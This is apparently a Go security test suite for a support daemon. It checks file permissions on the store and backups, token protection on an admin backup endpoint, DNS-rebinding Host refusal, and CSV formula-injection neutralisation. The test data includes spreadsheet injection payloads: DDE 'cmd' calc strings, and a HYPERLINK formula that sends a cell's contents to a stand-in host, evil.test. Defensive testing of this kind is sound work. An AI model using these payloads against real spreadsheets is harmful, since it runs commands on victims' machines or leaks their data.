package security_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"supportd/entitlement"
	"supportd/internal/testenv"
	"supportd/store"
)

func mode(t testing.TB, path string) os.FileMode {
	t.Helper()
	fi, err := os.Stat(path)
	if err != nil {
		t.Fatal(err)
	}
	return fi.Mode().Perm()
}

// customersIn opens a store file read-only and returns its customers by id.
func customersIn(t testing.TB, path string) map[string]entitlement.Customer {
	t.Helper()
	db, err := store.Open(path, &store.Options{ReadOnly: true, Timeout: 2 * time.Second})
	if err != nil {
		t.Fatalf("%s is not a usable store: %v", path, err)
	}
	defer db.Close()
	out := map[string]entitlement.Customer{}
	if err := db.View(func(tx *store.Tx) error {
		return tx.ForEachCustomer(func(c entitlement.Customer) error { out[c.ID] = c; return nil })
	}); err != nil {
		t.Fatal(err)
	}
	return out
}

// backupCustomers restores a backup archive into a new place and returns the
// customers of the restored store.
func backupCustomers(t testing.TB, path string) map[string]entitlement.Customer {
	t.Helper()
	restored := filepath.Join(t.TempDir(), "restored.db")
	if _, err := store.RestoreFile(path, restored); err != nil {
		t.Fatalf("%s is not a usable backup: %v", path, err)
	}
	return customersIn(t, restored)
}

// Under umask 000, the store created by `customers import`, a `backup` taken
// directly, one taken through a running daemon's /backup (the store is locked), and
// a backup replacing a world-readable file are all 0600.
func TestStoreAndBackupsAre0600(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	dv := testenv.Dovecot(t)
	mp := testenv.Mailpit(t)
	csvPath := filepath.Join(dir, "customers.csv")
	if err := os.WriteFile(csvPath, []byte(testCustomers), 0o600); err != nil {
		t.Fatal(err)
	}
	dbPath := filepath.Join(dir, "data", "supportd.db")
	if err := os.MkdirAll(filepath.Dir(dbPath), 0o755); err != nil {
		t.Fatal(err)
	}
	metrics := freeAddr(t)
	cfg := writeConfig(t, dir, fmt.Sprintf(`
store: {path: %q}
imap: {address: %q, tls: none, username: %q, poll_interval: 1s, start_at: all}
smtp: {address: %q, tls: none}
metrics: {listen: %q}
`, dbPath, dv.Addr(), dv.User(), mp.SMTPAddr(), metrics))
	env := cleanEnv("SUPPORTD_IMAP_PASSWORD=" + dv.Password())

	if out, errOut, code := cli(t, env, "--config", cfg, "customers", "import", csvPath); code != 0 {
		t.Fatalf("customers import: %s%s", out, errOut)
	}
	if m := mode(t, dbPath); m != 0o600 {
		t.Errorf("store created %v by customers import, want 0600", m)
	}

	direct := filepath.Join(dir, "direct.db")
	if out, errOut, code := cli(t, env, "--config", cfg, "backup", direct); code != 0 {
		t.Fatalf("backup: %s%s", out, errOut)
	}
	if m := mode(t, direct); m != 0o600 {
		t.Errorf("direct backup created %v, want 0600", m)
	}
	if n := len(backupCustomers(t, direct)); n != 2 {
		t.Errorf("direct backup holds %d customers, want 2", n)
	}

	// A backup over an existing world-readable file does not keep its mode.
	over := filepath.Join(dir, "over.db")
	if err := os.WriteFile(over, []byte("old"), 0o666); err != nil {
		t.Fatal(err)
	}
	os.Chmod(over, 0o666)
	if out, errOut, code := cli(t, env, "--config", cfg, "backup", over); code != 0 {
		t.Fatalf("backup over an existing file: %s%s", out, errOut)
	}
	if m := mode(t, over); m != 0o600 {
		t.Errorf("backup over a 0666 file left it %v, want 0600", m)
	}

	// While `run` holds the store, backup goes through the daemon's loopback /backup.
	d := startDaemon(t, env, "--config", cfg, "run")
	waitFor(t, 20*time.Second, "the metrics listener", func() bool {
		resp, err := http.Get("http://" + metrics + "/metrics")
		if err != nil {
			return false
		}
		resp.Body.Close()
		return resp.StatusCode == http.StatusOK
	})
	live := filepath.Join(dir, "live.db")
	out, errOut, code := cli(t, env, "--config", cfg, "backup", live)
	if code != 0 {
		d.stop(t)
		t.Fatalf("backup while running: %s%s\ndaemon:\n%s", out, errOut, d.output())
	}
	// Either wording of the CLI: a backup streamed from /backup, or a snapshot read
	// from /backup and copied.
	if !strings.Contains(out, "from the running daemon") && !strings.Contains(errOut, "held by a running supportd") {
		t.Errorf("backup while running did not go through the daemon: %q\nstderr: %s\ndaemon:\n%s", out, errOut, d.output())
	}
	if m := mode(t, live); m != 0o600 {
		t.Errorf("backup through /backup created %v, want 0600", m)
	}
	if m := mode(t, dbPath); m != 0o600 {
		t.Errorf("store is %v while the daemon runs, want 0600", m)
	}
	// The admin API (backup, customer changes) answers only with the token that
	// run keeps next to the store, readable by the store's owner alone.
	if m := mode(t, dbPath+".admin-token"); m != 0o600 {
		t.Errorf("admin token is %v, want 0600", m)
	}
	if resp, err := http.Get("http://" + metrics + "/backup"); err != nil {
		t.Errorf("GET /backup without a token: %v", err)
	} else {
		resp.Body.Close()
		if resp.StatusCode != http.StatusUnauthorized {
			t.Errorf("GET /backup without the admin token answered %s, want 401", resp.Status)
		}
	}
	// Issue 13 item 9: a request whose Host is not the listener's own address
	// (DNS rebinding: a page of evil.test re-pointed at 127.0.0.1) is refused
	// before any handler, the admin API's included.
	_, port, _ := net.SplitHostPort(metrics)
	for _, c := range []struct {
		host string
		want int
	}{
		{"evil.test:" + port, http.StatusMisdirectedRequest},
		{"evil.test", http.StatusMisdirectedRequest},
		{"127.0.0.1.evil.test:" + port, http.StatusMisdirectedRequest},
		{"localhost:1", http.StatusMisdirectedRequest},
		{metrics, http.StatusOK},
		{"localhost:" + port, http.StatusOK},
	} {
		for _, path := range []string{"/metrics", "/healthz", "/backup"} {
			req, _ := http.NewRequest("GET", "http://"+metrics+path, nil)
			req.Host = c.host
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Errorf("GET %s with Host %s: %v", path, c.host, err)
				continue
			}
			resp.Body.Close()
			switch {
			case c.want != http.StatusOK && resp.StatusCode != c.want:
				t.Errorf("GET %s with Host %s answered %s, want %d", path, c.host, resp.Status, c.want)
			case c.want == http.StatusOK && resp.StatusCode == http.StatusMisdirectedRequest:
				t.Errorf("GET %s with the listener's own Host %s was refused", path, c.host)
			}
		}
	}
	spool := filepath.Join(filepath.Dir(dbPath), ".supportd-spool")
	if m := mode(t, spool); m != 0o700 {
		t.Errorf("spool directory created %v, want 0700", m)
	}
	d.stop(t)
	if n := len(backupCustomers(t, live)); n != 2 {
		t.Errorf("backup through the daemon holds %d customers, want 2", n)
	}
	// Nothing else in the directories is readable by others.
	for _, d := range []string{dir, filepath.Dir(dbPath)} {
		ents, err := os.ReadDir(d)
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range ents {
			if strings.HasSuffix(e.Name(), ".db") || strings.Contains(e.Name(), "backup") {
				if m := mode(t, filepath.Join(d, e.Name())); m&0o077 != 0 {
					t.Errorf("%s is %v, readable or writable by others", e.Name(), m)
				}
			}
		}
	}
}

const csvHeader = "id,company,contacts,domains,license,asup_expires,trial_expires,free5,extended_support,ha_module\n"

// Hostile CSV through the CLI: cells a spreadsheet would run as formulas are
// imported as they are but neutralised on export (and the export imports back to
// the same values); over-long fields make the whole import fail, naming the line
// and the column.
func TestCSVHostileRows(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	dbPath := filepath.Join(dir, "supportd.db")
	env := cleanEnv("SUPPORTD_STORE_PATH=" + dbPath)

	formulas := map[string]string{
		"F1": `=cmd|' /C calc'!A0`,
		"F2": `+SUM(1,2)`,
		"F3": `-2+3+cmd|' /C calc'!A0`,
		"F4": `@SUM(A1:A9)`,
		"F5": `''=quoted twice`, // the importer drops one ' before a formula character (it undoes export's)
		"F6": "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
	}
	var in strings.Builder
	in.WriteString(csvHeader)
	for id, company := range formulas {
		fmt.Fprintf(&in, "%s,%s,,%s.test,enterprise,2027-06-30,,false,false,false\n", id, csvQuote(company), strings.ToLower(id))
	}
	src := filepath.Join(dir, "hostile.csv")
	if err := os.WriteFile(src, []byte(in.String()), 0o600); err != nil {
		t.Fatal(err)
	}
	if out, errOut, code := cli(t, env, "customers", "import", src); code != 0 {
		t.Fatalf("import of formula-looking companies failed: %s%s", out, errOut)
	}
	exported, errOut, code := cli(t, env, "customers", "export")
	if code != 0 {
		t.Fatalf("export: %s", errOut)
	}
	recs, err := csv.NewReader(strings.NewReader(exported)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, exported)
	}
	if len(recs) != len(formulas)+1 {
		t.Fatalf("export has %d records, want header + %d", len(recs), len(formulas))
	}
	for _, rec := range recs[1:] {
		for i, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported %s column %s = %q starts a formula", rec[0], recs[0][i], cell)
			}
		}
		if want := "'" + imported(formulas[rec[0]]); rec[1] != want {
			t.Errorf("exported company of %s = %q, want %q", rec[0], rec[1], want)
		}
	}
	// The store keeps the real names, and the export imports back identically.
	stored := customersIn(t, dbPath)
	for id, company := range formulas {
		if stored[id].Company != imported(company) {
			t.Errorf("stored company of %s = %q, want %q", id, stored[id].Company, imported(company))
		}
	}
	back := filepath.Join(dir, "export.csv")
	if err := os.WriteFile(back, []byte(exported), 0o600); err != nil {
		t.Fatal(err)
	}
	env2 := cleanEnv("SUPPORTD_STORE_PATH=" + filepath.Join(dir, "second.db"))
	if out, errOut, code := cli(t, env2, "customers", "import", back); code != 0 {
		t.Fatalf("re-import of the export: %s%s", out, errOut)
	}
	again, _, _ := cli(t, env2, "customers", "export")
	if again != exported {
		t.Errorf("export → import → export changed the data:\n%s\n---\n%s", exported, again)
	}

	// Over-long fields: the import is refused as a whole, naming line and column.
	cases := []struct {
		name, row string
		want      []string
	}{
		{"company", "L1," + strings.Repeat("A", store.MaxFieldBytes+1) + ",,l1.test,cal,,,false,false,false\n", []string{"line 3", "company"}},
		{"contact", "L1,Long Contact Ltd," + strings.Repeat("c", store.MaxFieldBytes) + "@l1.test,l1.test,cal,,,false,false,false\n", []string{"line 3", "contacts"}},
		{"domain", "L1,Long Domain Ltd,," + strings.Repeat("d", store.MaxFieldBytes+1) + ".test,cal,,,false,false,false\n", []string{"line 3", "domains"}},
		{"record", "L1,\"" + strings.Repeat("x\n", store.MaxRecordBytes) + "\",,l1.test,cal,,,false,false,false\n", []string{"line 3"}},
	}
	for _, c := range cases {
		t.Run("too long "+c.name, func(t *testing.T) {
			p := filepath.Join(dir, "long-"+c.name+".csv")
			body := csvHeader + "G1,Good Row Ltd,,good.test,cal,,,false,false,false\n" + c.row
			if err := os.WriteFile(p, []byte(body), 0o600); err != nil {
				t.Fatal(err)
			}
			db := filepath.Join(dir, "long-"+c.name+".db")
			out, errOut, code := cli(t, cleanEnv("SUPPORTD_STORE_PATH="+db), "customers", "import", p)
			if code == 0 {
				t.Fatalf("import accepted an over-long %s: %s", c.name, out)
			}
			for _, w := range c.want {
				if !strings.Contains(errOut, w) {
					t.Errorf("error does not name %q:\n%s", w, clip(errOut, 400))
				}
			}
			if _, err := os.Stat(db); err == nil {
				if n := len(customersIn(t, db)); n != 0 {
					t.Errorf("%d customers imported from a refused file, want none (all or nothing)", n)
				}
			}
		})
	}
}

// imported is the company the store keeps for a CSV cell: one leading ' before a
// formula character is taken as export's neutralisation and dropped.
func imported(cell string) string {
	if strings.HasPrefix(cell, "'") {
		rest := strings.TrimLeft(cell, "'")
		if rest != "" && strings.ContainsRune("=+-@\t\r", rune(rest[0])) {
			return cell[1:]
		}
	}
	return cell
}

func csvQuote(s string) string {
	var b bytes.Buffer
	w := csv.NewWriter(&b)
	w.Write([]string{s})
	w.Flush()
	return strings.TrimSuffix(b.String(), "\n")
}

func clip(s string, n int) string {
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}
